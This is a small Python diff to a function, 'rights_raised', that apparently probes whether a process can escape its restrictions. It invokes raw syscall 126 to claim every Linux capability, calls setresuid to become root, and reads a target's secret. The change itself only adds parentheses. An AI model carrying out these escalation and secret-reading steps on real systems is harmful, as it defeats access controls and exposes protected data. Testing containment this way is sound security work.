@@ -287,7 +287,7 @@ def rights_raised(target: means.Target) -> str | None:
     data = ctypes.create_string_buffer(struct.pack("<6I", *[0xFFFFFFFF] * 6))
     return means.every(
         [
-            lambda: means.syscall(126, header, data) and None or "raised its capabilities",
+            lambda: (means.syscall(126, header, data) and None) or "raised its capabilities",
             lambda: os.setresuid(0, 0, 0) if os.getuid() else None,
             lambda: means.read(target.secret),
         ]
